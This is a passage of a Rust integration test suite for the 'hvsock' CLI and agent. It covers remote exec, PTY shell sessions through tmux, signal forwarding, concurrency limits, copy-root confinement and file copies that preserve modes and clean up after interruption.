//! CLI tests of the integration service: `hvsock agent` running as a child process in
//! the local partition `vm1` (HVSOCK_PARTITION=vm1), driven from the host with
//! `hvsock exec`, `shell`, `cp` and raw sockets; `hvsock demo`. Each test has its own
//! temp config and runtime directories; PTY sessions run inside a private tmux server.

mod common;
use hvsock::paths::Dirs;
use hvsock::{Context, HvAddr, VmId};
use hvsock_agent::SERVICE_ID;
use hvsock_agent::proto::VERSION;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::Shutdown;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use common::limited::{LIMIT, run, wait_for, wait_limit, wait_output};
use common::{BIN, spawn_piped, spawn_with};
use hvsock_testkit::data::{sha256_hex, xorshift_words as pseudo_random};
use hvsock_testkit::fs::is_temp_file_name;
use hvsock_testkit::proc::{read_line, read_stderr};

struct Env {
    tmp: tempfile::TempDir,
    cfg: PathBuf,
    run: PathBuf,
    vm1: VmId,
    agent: Option<Agent>,
}

/// The `hvsock agent` child: stderr collected, stopped (SIGTERM, then SIGKILL) on drop.
struct Agent {
    child: Child,
    log: Arc<Mutex<String>>,
}

impl Drop for Agent {
    fn drop(&mut self) {
        // SIGTERM lets the agent kill the processes it started.
        let _ = rustix::process::kill_process(
            rustix::process::Pid::from_raw(self.child.id() as i32).unwrap(),
            rustix::process::Signal::TERM,
        );
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(3) {
            if let Ok(Some(_)) = self.child.try_wait() {
                return;
            }
            thread::sleep(Duration::from_millis(10));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Env {
    /// The agent service registered (`agent --install-service`), the local partition
    /// `vm1`, and `hvsock agent -v` running in it with `extra` options.
    fn with_agent(extra: &[&str]) -> Env {
        let mut env = Env::bare();
        let out = env.ok(&["agent", "--install-service"]);
        assert!(out.contains("registered"), "{out}");
        env.start_agent(extra);
        env
    }

    /// Temp dirs and `vm1`, nothing else.
    fn bare() -> Env {
        let (tmp, cfg, run) = common::temp_dirs("hva");
        let mut env = Env {
            tmp,
            cfg,
            run,
            vm1: VmId::ZERO,
            agent: None,
        };
        env.vm1 = common::printed_id(&env.ok(&["vm", "add", "vm1", "--local"]));
        env
    }

    fn start_agent(&mut self, extra: &[&str]) {
        let mut args = vec!["agent", "-v"];
        args.extend_from_slice(extra);
        let mut cmd = self.cmd(&args);
        cmd.env("HVSOCK_PARTITION", "vm1")
            .current_dir(self.tmp.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        let log = Arc::new(Mutex::new(String::new()));
        let (tx, rx): (_, Receiver<String>) = channel();
        let (se, l) = (child.stderr.take().unwrap(), log.clone());
        thread::spawn(move || {
            for line in BufReader::new(se).lines() {
                let Ok(line) = line else { break };
                l.lock().unwrap().push_str(&format!("{line}\n"));
                let _ = tx.send(line);
            }
        });
        let agent = Agent { child, log };
        match rx.recv_timeout(LIMIT) {
            Ok(line) if line.contains("serving") => {}
            other => panic!("agent did not start: {other:?}; log: {}", agent.log()),
        }
        self.agent = Some(agent);
    }

    fn agent_log(&self) -> String {
        self.agent.as_ref().unwrap().log()
    }

    /// The agent is still running.
    fn agent_alive(&mut self) -> bool {
        let a = self.agent.as_mut().unwrap();
        a.child.try_wait().unwrap().is_none()
    }

    fn dirs(&self) -> Dirs {
        Dirs::new(&self.cfg, &self.run)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.tmp.path().join(name)
    }

    /// `hvsock ARGS` on the host.
    fn cmd(&self, args: &[&str]) -> Command {
        common::hvsock(&self.cfg, &self.run, args)
    }

    /// Runs to completion, expects exit 0, returns stdout.
    fn ok(&self, args: &[&str]) -> String {
        let out = run(self.cmd(args), b"");
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        String::from_utf8(out.stdout).unwrap()
    }

    /// `hvsock ARGS` with `input` on stdin.
    fn run(&self, args: &[&str], input: &[u8]) -> Output {
        run(self.cmd(args), input)
    }
}

impl Agent {
    fn log(&self) -> String {
        self.log.lock().unwrap().clone()
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Asserts that `out`'s stderr contains `needle` (the message shows all of it).
#[track_caller]
fn assert_stderr_has(out: &Output, needle: &str) {
    assert!(stderr(out).contains(needle), "{}", stderr(out));
}

fn code(out: &Output) -> i32 {
    out.status.code().expect("exited, not killed")
}

fn sha256_file(p: &Path) -> String {
    sha256_hex(&std::fs::read(p).unwrap())
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o7777
}

/// Entries of `dir` that are copy temp files.
fn temp_files(dir: &Path) -> Vec<String> {
    let mut names = hvsock_testkit::fs::dir_entries(dir);
    names.retain(|n| is_temp_file_name(n));
    names
}

// ---------------------------------------------------------------------------------
// exec

#[test]
fn exec_exit_codes() {
    let env = Env::with_agent(&[]);
    let ex = |argv: &[&str]| {
        let mut args = vec!["exec", "vm1", "--"];
        args.extend_from_slice(argv);
        env.run(&args, b"")
    };
    assert_eq!(code(&ex(&["true"])), 0);
    assert_eq!(code(&ex(&["sh", "-c", "exit 3"])), 3);
    // Death by signal N is 128 + N.
    assert_eq!(code(&ex(&["sh", "-c", "kill -TERM $$"])), 143);
    assert_eq!(code(&ex(&["sh", "-c", "kill -KILL $$"])), 137);
    // Unknown command: 127 and one line saying so.
    let out = ex(&["no-such-command-hv"]);
    assert_eq!(code(&out), 127, "{}", stderr(&out));
    let e = stderr(&out);
    assert!(
        e.starts_with("hvsock: ") && e.contains("no-such-command-hv: command not found"),
        "{e}"
    );
    assert_eq!(e.lines().count(), 1, "{e}");
    // Not executable: 126.
    let script = env.path("noexec.sh");
    std::fs::write(&script, "#!/bin/sh\necho hi\n").unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(code(&ex(&[script.to_str().unwrap()])), 126);
    // Without `--` too (CMD's options are its own).
    let out = env.run(&["exec", "vm1", "ls", "-d", "/"], b"");
    assert_eq!((code(&out), stdout(&out)), (0, "/\n".to_string()));
}

#[test]
fn exec_connection_errors_exit_255_with_one_line() {
    let env = Env::bare();
    // Registered, but no agent runs in vm1.
    env.ok(&["agent", "--install-service"]);
    let out = env.run(&["exec", "vm1", "--", "true"], b"");
    assert_eq!(code(&out), 255);
    let e = stderr(&out);
    assert_eq!(e.lines().count(), 1, "{e}");
    assert!(
        e.starts_with("hvsock: cannot reach the agent in vm1") && e.contains("hvsock agent"),
        "{e}"
    );
    // An unknown VM.
    let out = env.run(&["exec", "nosuchvm", "--", "true"], b"");
    assert_eq!(code(&out), 255);
    assert_stderr_has(&out, "unknown VM \"nosuchvm\"");
    // Usage errors are clap's 2.
    let out = env.run(&["exec", "vm1"], b"");
    assert_eq!(code(&out), 2);
    // The help documents the exit codes.
    let help = env.ok(&["exec", "--help"]);
    for s in ["128+N", "127", "126", "255"] {
        assert!(help.contains(s), "exec --help lacks {s}");
    }
}

#[test]
fn exec_separates_stdout_and_stderr_and_passes_env_and_cwd() {
    let env = Env::with_agent(&[]);
    let out = env.run(
        &[
            "exec",
            "vm1",
            "--",
            "sh",
            "-c",
            "echo out1; echo err1 >&2; echo out2; echo err2 >&2; exit 5",
        ],
        b"",
    );
    assert_eq!(code(&out), 5);
    assert_eq!(stdout(&out), "out1\nout2\n");
    assert_eq!(stderr(&out), "err1\nerr2\n");

    let dir = env.path("work dir");
    std::fs::create_dir(&dir).unwrap();
    let out = env.run(
        &[
            "exec",
            "vm1",
            "--env",
            "GREETING=hello world",
            "-e",
            "EMPTY=",
            "--cwd",
            dir.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            "printf '%s|%s|%s\\n' \"$GREETING\" \"${EMPTY-unset}\" \"$(pwd)\"",
        ],
        b"",
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        format!("hello world||{}\n", dir.canonicalize().unwrap().display())
    );
    // A missing cwd is an error of the request, not of the connection.
    let out = env.run(&["exec", "vm1", "--cwd", "/no/such/dir", "--", "true"], b"");
    assert_ne!(code(&out), 0);
    assert_stderr_has(&out, "/no/such/dir");
}

#[test]
fn exec_streams_large_stdin_and_live_lines() {
    let env = Env::with_agent(&[]);
    // 20 MiB through `sha256sum` in the VM.
    let data = pseudo_random(20 << 20, 7);
    let out = env.run(&["exec", "vm1", "--", "sha256sum"], &data);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        stdout(&out).split_whitespace().next().unwrap(),
        sha256_hex(&data)
    );
    // Live: each line comes back before stdin ends; EOF ends `cat`.
    let mut child = spawn_piped(env.cmd(&["exec", "vm1", "--", "cat"]));
    let mut w = child.stdin.take().unwrap();
    let mut r = BufReader::new(child.stdout.take().unwrap());
    for i in 0..3 {
        writeln!(w, "line {i}").unwrap();
        w.flush().unwrap();
        let mut got = String::new();
        r.read_line(&mut got).unwrap();
        assert_eq!(got, format!("line {i}\n"));
    }
    drop(w);
    let mut rest = String::new();
    r.read_to_string(&mut rest).unwrap();
    assert_eq!(rest, "");
    assert!(wait_limit(&mut child).success());
}

#[test]
fn exec_ends_quietly_when_its_stdout_closes() {
    let env = Env::with_agent(&[]);
    // `hvsock exec vm1 -- yes | head -1`: the reader goes away, so does `yes`.
    let mut child = spawn_with(
        env.cmd(&["exec", "vm1", "--", "yes"]),
        [Stdio::null(), Stdio::piped(), Stdio::piped()],
    );
    let line = read_line(child.stdout.take().unwrap());
    assert_eq!(line, "y\n");
    let err = read_stderr(&mut child);
    assert_eq!(wait_limit(&mut child).code(), Some(141));
    assert_eq!(err, "");
    // The agent saw the client go and ended `yes` (whether it noticed by reading or by
    // writing to the closed connection).
    let start = Instant::now();
    while !env.agent_log().contains("client disconnected") {
        assert!(
            start.elapsed() < LIMIT,
            "the agent did not end the request; its log:\n{}",
            env.agent_log()
        );
        thread::sleep(Duration::from_millis(10));
    }
}

#[test]
fn exec_forwards_signals_to_the_remote_command() {
    let env = Env::with_agent(&[]);
    let script = "trap 'echo got-term; exit 7' TERM; echo ready; while :; do sleep 0.05; done";
    let mut child = spawn_piped(env.cmd(&["exec", "vm1", "--", "sh", "-c", script]));
    let mut r = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    r.read_line(&mut line).unwrap();
    assert_eq!(line, "ready\n");
    let _ = rustix::process::kill_process(
        rustix::process::Pid::from_raw(child.id() as i32).unwrap(),
        rustix::process::Signal::TERM,
    );
    let mut rest = String::new();
    r.read_to_string(&mut rest).unwrap();
    assert_eq!(rest, "got-term\n");
    assert_eq!(wait_limit(&mut child).code(), Some(7));
}

/// `head -c 100M /dev/zero | hvsock exec vm1 -- sleep 40`: `sleep` writes its pid to
/// `pidfile` and never reads. Returns the client and the remote pid.
fn exec_with_flooded_stdin(env: &Env, pidfile: &Path) -> (Child, i32) {
    let script = format!("echo $$ > {}; exec sleep 40", pidfile.display());
    let mut child = spawn_with(
        env.cmd(&["exec", "vm1", "--", "sh", "-c", &script]),
        [Stdio::piped(), Stdio::null(), Stdio::piped()],
    );
    let mut stdin = child.stdin.take().unwrap();
    thread::spawn(move || {
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..100 {
            if stdin.write_all(&zeros).is_err() {
                break;
            }
        }
    });
    wait_for("the remote pid", || {
        std::fs::read_to_string(pidfile).is_ok_and(|s| s.ends_with('\n'))
    });
    let pid = std::fs::read_to_string(pidfile)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    (child, pid)
}

#[test]
fn exec_with_a_full_stdin_still_forwards_signals() {
    let env = Env::with_agent(&[]);
    for (sig, want) in [
        (libc::SIGTERM, 143),
        (libc::SIGINT, 130),
        (libc::SIGHUP, 129),
    ] {
        let pidfile = env.path(&format!("pid-{sig}"));
        let (mut child, pid) = exec_with_flooded_stdin(&env, &pidfile);
        // Let the flood fill every buffer on the way.
        thread::sleep(Duration::from_millis(300));
        let _ = rustix::process::kill_process(
            rustix::process::Pid::from_raw(child.id() as i32).unwrap(),
            rustix::process::Signal::from_named_raw(sig).unwrap(),
        );
        assert_eq!(wait_limit(&mut child).code(), Some(want), "signal {sig}");
        wait_for("the remote sleep to end", || {
            !Path::new(&format!("/proc/{pid}")).exists()
        });
    }
}

#[test]
fn killed_exec_client_ends_the_remote_command_and_frees_its_slot() {
    let env = Env::with_agent(&["--max-concurrent", "1"]);
    let pidfile = env.path("pid");
    let (mut child, pid) = exec_with_flooded_stdin(&env, &pidfile);
    thread::sleep(Duration::from_millis(300));
    child.kill().unwrap();
    let _ = child.wait();
    wait_for("the remote sleep to end", || {
        !Path::new(&format!("/proc/{pid}")).exists()
    });
    // The only slot is free again.
    let out = env.run(&["exec", "vm1", "--", "echo", "next"], b"");
    assert_eq!(
        (code(&out), stdout(&out)),
        (0, "next\n".to_string()),
        "{}",
        stderr(&out)
    );
}

#[test]
fn stopping_the_agent_ends_its_sessions_background_jobs_too() {
    let mut env = Env::with_agent(&[]);
    let job = env.path("job");
    // A job in its own process group that ignores SIGHUP, and the command itself.
    let script = format!(
        "perl -e '$SIG{{HUP}} = \"IGNORE\"; setpgrp(0, 0); exec \"sleep\", 85' & \
         echo $! > {}; echo $$; sleep 100",
        job.display()
    );
    let mut child = spawn_with(
        env.cmd(&["exec", "vm1", "--", "sh", "-c", &script]),
        [Stdio::piped(), Stdio::piped(), Stdio::null()],
    );
    let line = read_line(child.stdout.take().unwrap());
    let sh: i32 = line.trim().parse().unwrap();
    wait_for("the job's pid", || {
        std::fs::read_to_string(&job).is_ok_and(|s| s.ends_with('\n'))
    });
    let job: i32 = std::fs::read_to_string(&job)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    wait_for("the job to exec sleep", || {
        std::fs::read_to_string(format!("/proc/{job}/comm")).is_ok_and(|c| c == "sleep\n")
    });
    // SIGTERM to the agent (its Drop), which ends every session it serves.
    drop(env.agent.take());
    for pid in [sh, job] {
        wait_for("the session's processes to end", || {
            !Path::new(&format!("/proc/{pid}")).exists()
        });
    }
    assert_eq!(wait_limit(&mut child).code(), Some(255));
}

#[test]
fn agent_answers_busy_beyond_max_concurrent() {
    let env = Env::with_agent(&["--max-concurrent", "1"]);
    let mut first = spawn_with(
        env.cmd(&["exec", "vm1", "--", "sh", "-c", "echo up; cat"]),
        [Stdio::piped(), Stdio::piped(), Stdio::null()],
    );
    let line = read_line(first.stdout.as_mut().unwrap());
    assert_eq!(line, "up\n");
    let out = env.run(&["exec", "vm1", "--", "true"], b"");
    assert_eq!(code(&out), 255);
    assert_stderr_has(&out, "maximum of 1");
    drop(first.stdin.take());
    assert!(wait_limit(&mut first).success());
    // The slot is free again.
    assert_eq!(code(&env.run(&["exec", "vm1", "--", "true"], b"")), 0);
}

#[test]
fn install_service_is_idempotent_and_agent_refuses_the_host() {
    let env = Env::bare();
    let out = env.ok(&["agent", "--install-service"]);
    assert!(
        out.contains("registered") && out.contains("00004856-facb-11e6-bd58-64006a7986d3"),
        "{out}"
    );
    let out = env.ok(&["agent", "--install-service"]);
    assert!(out.starts_with("already registered"), "{out}");
    let list = env.ok(&["service", "list", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&list).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 1);
    assert_eq!(v[0]["name"], "hvsock agent");
    assert_eq!(v[0]["vsock_port"], 18518);
    // On the host, serving "the parent" makes no sense: a clear error.
    let out = env.run(&["agent"], b"");
    assert_eq!(code(&out), 1);
    assert_stderr_has(&out, "HVSOCK_PARTITION");
    let help = env.ok(&["agent", "--help"]);
    assert!(help.contains("dist/hvsock-agent.service"), "{help}");
}

#[test]
fn agent_any_and_copy_root() {
    let mut env = Env::with_agent(&[]);
    let in_vm1 = |env: &Env, args: &[&str]| {
        let mut c = env.cmd(args);
        c.env("HVSOCK_PARTITION", "vm1");
        run(c, b"")
    };
    // By default only the parent gets in: not even vm1 itself over LOOPBACK.
    let out = in_vm1(&env, &["exec", "loopback", "--", "true"]);
    assert_eq!(code(&out), 255, "{}", stderr(&out));

    // --any binds ZERO; --copy-root confines copies.
    env.agent = None;
    let root = env.path("root");
    std::fs::create_dir(&root).unwrap();
    env.start_agent(&["--any", "--copy-root", root.to_str().unwrap()]);
    let out = in_vm1(&env, &["exec", "loopback", "--", "echo", "hi"]);
    assert_eq!((code(&out), stdout(&out)), (0, "hi\n".to_string()));
    let src = env.path("f.txt");
    std::fs::write(&src, b"confined").unwrap();
    let out = env.run(&["cp", src.to_str().unwrap(), "vm1:rel.txt"], b"");
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(std::fs::read(root.join("rel.txt")).unwrap(), b"confined");
    for outside in ["vm1:../escape.txt", "vm1:/tmp/escape.txt"] {
        let out = env.run(&["cp", src.to_str().unwrap(), outside], b"");
        assert_eq!(code(&out), 1, "{outside}");
        assert!(
            stderr(&out).starts_with("hvsock: agent: "),
            "{}",
            stderr(&out)
        );
    }
    assert!(!env.path("escape.txt").exists());
    // Not a directory: the agent refuses to start, with one line.
    let out = env.run(&["agent", "--any", "--copy-root", "/no/such/dir"], b"");
    assert_eq!(code(&out), 1);
    assert_stderr_has(&out, "--copy-root /no/such/dir");
}

// ---------------------------------------------------------------------------------
// PTY sessions through tmux

/// A private tmux server (its own socket) with one session running a command.
struct Tmux {
    sock: PathBuf,
    env: Vec<(String, PathBuf)>,
}

impl Tmux {
    fn start(env: &Env, command: &str) -> Tmux {
        let t = Tmux {
            sock: env.path("tmux.sock"),
            env: vec![
                ("HVSOCK_CONFIG_DIR".into(), env.cfg.clone()),
                ("HVSOCK_RUNTIME_DIR".into(), env.run.clone()),
            ],
        };
        let st = t
            .cmd(&[
                "new-session",
                "-d",
                "-s",
                "t",
                "-x",
                "100",
                "-y",
                "30",
                command,
            ])
            .status()
            .expect("tmux is needed for the PTY tests (scripts/test installs it)");
        assert!(st.success());
        t
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new("tmux");
        c.arg("-S").arg(&self.sock).arg("-f").arg("/dev/null");
        c.args(args)
            .env("SHELL", "/bin/sh")
            .env("TERM", "xterm")
            .env_remove("TMUX")
            .env_remove("HVSOCK_PARTITION")
            .env_remove("HVSOCK_GUEST");
        for (k, v) in &self.env {
            c.env(k, v);
        }
        c.stdin(Stdio::null());
        c
    }

    fn send(&self, keys: &[&str]) {
        let mut args = vec!["send-keys", "-t", "t"];
        args.extend_from_slice(keys);
        assert!(self.cmd(&args).status().unwrap().success());
    }

    /// Types `line` and Enter.
    fn line(&self, line: &str) {
        self.send(&["-l", line]);
        self.send(&["Enter"]);
    }

    fn capture(&self) -> String {
        let out = self
            .cmd(&["capture-pane", "-p", "-J", "-t", "t", "-S", "-200"])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Waits until the pane shows `pat`; returns the pane.
    fn expect(&self, pat: &str) -> String {
        let start = Instant::now();
        loop {
            let pane = self.capture();
            if pane.contains(pat) {
                return pane;
            }
            assert!(
                start.elapsed() < LIMIT,
                "pane never showed {pat:?}:\n{pane}"
            );
            thread::sleep(Duration::from_millis(20));
        }
    }

    /// "ROWS COLS" of the pane, as `stty size` prints it.
    fn size(&self) -> String {
        let out = self
            .cmd(&[
                "display-message",
                "-p",
                "-t",
                "t",
                "#{pane_height} #{pane_width}",
            ])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = self.cmd(&["kill-server"]).status();
    }
}

#[test]
fn shell_session_on_a_pty_through_tmux() {
    let env = Env::with_agent(&[]);
    let t = Tmux::start(
        &env,
        &format!("{BIN} shell vm1; echo RC=$?; stty -a; sleep 60"),
    );
    // The remote login shell prints its prompt: from then on our terminal is raw.
    let start = Instant::now();
    while t.capture().trim().is_empty() {
        assert!(start.elapsed() < LIMIT, "no prompt from the remote shell");
        thread::sleep(Duration::from_millis(20));
    }
    // A command and its output; the remote terminal has our window's size.
    t.line("PS1='R$ '; echo $0; stty size; echo A$((40+2))");
    let pane = t.expect("A42");
    let size = t.size();
    assert!(pane.contains(&format!("\n{size}\n")), "{size}:\n{pane}");
    assert!(pane.contains("\n-"), "not a login shell:\n{pane}");

    // A resize reaches the remote terminal (SIGWINCH -> Resize).
    assert!(
        t.cmd(&["resize-window", "-t", "t", "-x", "120", "-y", "40"])
            .status()
            .unwrap()
            .success()
    );
    let size2 = t.size();
    assert_ne!(size, size2);
    let mut seen = false;
    for i in 0..100 {
        t.line(&format!("stty size; echo B$(({i}+1000))"));
        let pane = t.expect(&format!("B{}", i + 1000));
        if pane.contains(&format!("\n{size2}\nB{}", i + 1000)) {
            seen = true;
            break;
        }
        thread::sleep(Duration::from_millis(50));
    }
    assert!(seen, "the remote terminal never saw {size2}");

    // Ctrl-C interrupts the remote foreground job, the shell stays.
    t.line("sh -c 'echo rea\"\"dy; sleep 100'; echo after-$((1+1))");
    t.expect("ready");
    t.send(&["C-c"]);
    t.line("echo alive-$((3+4))");
    let pane = t.expect("alive-7");
    assert!(!pane.contains("after-2"), "{pane}");

    // The exit code comes back and the terminal is cooked again.
    t.line("exit 3");
    let pane = t.expect("RC=3");
    let pane = if pane.contains("icanon") {
        pane
    } else {
        t.expect("icanon")
    };
    let after = &pane[pane.find("RC=3").unwrap()..];
    let words: Vec<&str> = after.split_whitespace().collect();
    for flag in ["icanon", "echo", "isig"] {
        assert!(
            words.contains(&flag) && !words.contains(&format!("-{flag}").as_str()),
            "terminal not restored ({flag}):\n{after}"
        );
    }
}

#[test]
fn exec_tty_runs_on_a_pty_of_the_window_size() {
    let env = Env::with_agent(&[]);
    let t = Tmux::start(
        &env,
        &format!(
            "{BIN} exec --tty vm1 -- sh -c 'tty; stty size; read x; echo got-$x; exit 4'; \
             echo RC=$?; sleep 60"
        ),
    );
    let pane = t.expect("/dev/pts/");
    let size = t.size();
    let pane = if pane.contains(&size) {
        pane
    } else {
        t.expect(&size)
    };
    assert!(pane.contains(&size), "{pane}");
    t.line("hello");
    t.expect("got-hello");
    t.expect("RC=4");
}

// ---------------------------------------------------------------------------------
// cp

#[test]
fn cp_100_mib_both_ways_with_hashes() {
    let env = Env::with_agent(&[]);
    let src = env.path("big.bin");
    std::fs::write(&src, pseudo_random(100 << 20, 42)).unwrap();
    std::fs::set_permissions(&src, std::fs::Permissions::from_mode(0o640)).unwrap();
    let want = sha256_file(&src);
    let vm_dir = env.path("vm");
    std::fs::create_dir(&vm_dir).unwrap();

    let t = Instant::now();
    let out = env.run(
        &[
            "cp",
            src.to_str().unwrap(),
            &format!("vm1:{}/", vm_dir.display()),
        ],
        b"",
    );
    let up = t.elapsed();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    // No terminal: no progress bar, nothing on stderr.
    assert_eq!(stderr(&out), "");
    let remote = vm_dir.join("big.bin");
    assert_eq!(sha256_file(&remote), want);
    assert_eq!(mode(&remote), 0o640);

    let back = env.path("back.bin");
    let t = Instant::now();
    let out = env.run(
        &[
            "cp",
            &format!("vm1:{}", remote.display()),
            back.to_str().unwrap(),
        ],
        b"",
    );
    let down = t.elapsed();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(sha256_file(&back), want);
    assert_eq!(mode(&back), 0o640);
    eprintln!("cp 100 MiB: up {up:?}, down {down:?} (debug build)");

    // A local name with ':' is written ./a:b.
    let colon = env.path("a:b");
    std::fs::write(&colon, b"colon").unwrap();
    let out = env
        .cmd(&["cp", "./a:b", &format!("vm1:{}/", vm_dir.display())])
        .current_dir(env.tmp.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read(vm_dir.join("a:b")).unwrap(), b"colon");
}

#[test]
fn cp_errors_are_one_line_and_exit_1() {
    let env = Env::with_agent(&[]);
    let dir = env.path("d");
    std::fs::create_dir(&dir).unwrap();
    for (args, want) in [
        (
            vec!["cp", "vm1:/no/such/file", "x"],
            "No such file or directory",
        ),
        (vec!["cp", dir.to_str().unwrap(), "vm1:/tmp/x"], "use -r"),
        (vec!["cp", "a", "b"], "neither SRC nor DST"),
        (vec!["cp", "vm1:a", "vm1:b"], "both SRC and DST"),
        (vec!["cp", "/no/such/local", "vm1:/tmp/x"], "cannot read"),
    ] {
        let out = env.run(&args, b"");
        assert_eq!(code(&out), 1, "{args:?}");
        let e = stderr(&out);
        assert!(
            e.starts_with("hvsock: ") && e.contains(want),
            "{args:?}: {e}"
        );
        assert_eq!(e.lines().count(), 1, "{e}");
    }
    assert!(!env.path("x").exists());
}

#[test]
fn cp_directory_tree_keeps_modes() {
    let env = Env::with_agent(&[]);
    let tree = env.path("tree");
    std::fs::create_dir_all(tree.join("sub/deeper")).unwrap();
    std::fs::create_dir(tree.join("empty")).unwrap();
    std::fs::write(tree.join("top.txt"), b"top").unwrap();
    std::fs::write(tree.join("sub/run.sh"), b"#!/bin/sh\necho run\n").unwrap();
    std::fs::write(tree.join("sub/deeper/secret"), pseudo_random(300_000, 3)).unwrap();
    let modes = [
        ("top.txt", 0o644),
        ("sub/run.sh", 0o755),
        ("sub/deeper/secret", 0o600),
        ("sub/deeper", 0o700),
        ("sub", 0o751),
        ("empty", 0o750),
    ];
    for (p, m) in modes {
        std::fs::set_permissions(tree.join(p), std::fs::Permissions::from_mode(m)).unwrap();
    }
    let check = |root: &Path| {
        for (p, m) in modes {
            assert_eq!(mode(&root.join(p)), m, "{}", root.join(p).display());
        }
        for f in ["top.txt", "sub/run.sh", "sub/deeper/secret"] {
            assert_eq!(
                sha256_file(&root.join(f)),
                sha256_file(&tree.join(f)),
                "{f}"
            );
        }
    };
    // To the VM, as a new name.
    let remote = env.path("vm-tree");
    let out = env.run(
        &[
            "cp",
            "-r",
            tree.to_str().unwrap(),
            &format!("vm1:{}", remote.display()),
        ],
        b"",
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    check(&remote);
    // Back, into an existing directory.
    let into = env.path("into");
    std::fs::create_dir(&into).unwrap();
    let out = env.run(
        &[
            "cp",
            "-R",
            &format!("vm1:{}", remote.display()),
            into.to_str().unwrap(),
        ],
        b"",
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    check(&into.join("vm-tree"));
    // Without -r: refused by the agent.
    let out = env.run(
        &[
            "cp",
            &format!("vm1:{}", remote.display()),
            env.path("no").to_str().unwrap(),
        ],
        b"",
    );
    assert_eq!(code(&out), 1);
    assert_stderr_has(&out, "-r");
}

/// Whether process `pid` has a file open in `dir`. A file being received shows up in
/// `/proc/PID/fd` even when it has no name in `dir` (`O_TMPFILE`).
fn has_file_open_in(pid: u32, dir: &Path) -> bool {
    let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
        return false;
    };
    fds.filter_map(|e| std::fs::read_link(e.ok()?.path()).ok())
        .any(|t| t.parent() == Some(dir))
}

/// Starts `hvsock cp`, waits until the receiver (the agent or `hvsock cp`) has a file
/// open in `watch`, then signals `hvsock cp`.
fn interrupt_cp(env: &Env, args: &[&str], watch: &Path, sig: i32) -> Output {
    let child = spawn_with(
        env.cmd(args),
        [Stdio::null(), Stdio::piped(), Stdio::piped()],
    );
    let watch = watch.canonicalize().unwrap();
    let agent = env.agent.as_ref().expect("an agent").child.id();
    wait_for("a file being received at the destination", || {
        [child.id(), agent]
            .into_iter()
            .any(|pid| has_file_open_in(pid, &watch))
    });
    let _ = rustix::process::kill_process(
        rustix::process::Pid::from_raw(child.id() as i32).unwrap(),
        rustix::process::Signal::from_named_raw(sig).unwrap(),
    );
    wait_output(child)
}

#[test]
fn interrupted_copies_leave_nothing_at_the_destination() {
    let env = Env::with_agent(&[]);
    // Big and sparse: fast to make, long enough to copy that we catch it mid-way.
    let src = env.path("huge.bin");
    let f = std::fs::File::create(&src).unwrap();
    f.set_len(2 << 30).unwrap();
    drop(f);

    // Upload, `hvsock cp` killed outright: the agent drops the file it was receiving;
    // an old file at DST is untouched, a new one never appears.
    let agent = env.agent.as_ref().unwrap().child.id();
    let vm_dir = env.path("vm");
    std::fs::create_dir(&vm_dir).unwrap();
    let vm_dir = vm_dir.canonicalize().unwrap();
    let vm_keep = vm_dir.join("keep.bin");
    std::fs::write(&vm_keep, b"old").unwrap();
    for dst in [
        format!("vm1:{}/", vm_dir.display()),
        format!("vm1:{}", vm_keep.display()),
    ] {
        let out = interrupt_cp(
            &env,
            &["cp", src.to_str().unwrap(), &dst],
            &vm_dir,
            libc::SIGKILL,
        );
        assert!(!out.status.success());
        wait_for("the agent to drop the file it was receiving", || {
            !has_file_open_in(agent, &vm_dir)
        });
        assert_eq!(temp_files(&vm_dir), Vec::<String>::new());
        assert_eq!(std::fs::read(&vm_keep).unwrap(), b"old");
        assert!(!vm_dir.join("huge.bin").exists());
    }

    // Download, interrupted by SIGINT / SIGTERM: 128+N, no file, no temp file.
    let local = env.path("local");
    std::fs::create_dir(&local).unwrap();
    let from_vm1 = format!("vm1:{}", src.display());
    for sig in [libc::SIGINT, libc::SIGTERM] {
        let out = interrupt_cp(
            &env,
            &["cp", &from_vm1, local.to_str().unwrap()],
            &local,
            sig,
        );
        assert_eq!(code(&out), 128 + sig, "{}", stderr(&out));
        assert_stderr_has(&out, "interrupted");
        assert_eq!(temp_files(&local), Vec::<String>::new());
        assert!(!local.join("huge.bin").exists());
    }
    // Download, `hvsock cp` killed outright: it cannot clean up, but the file it was
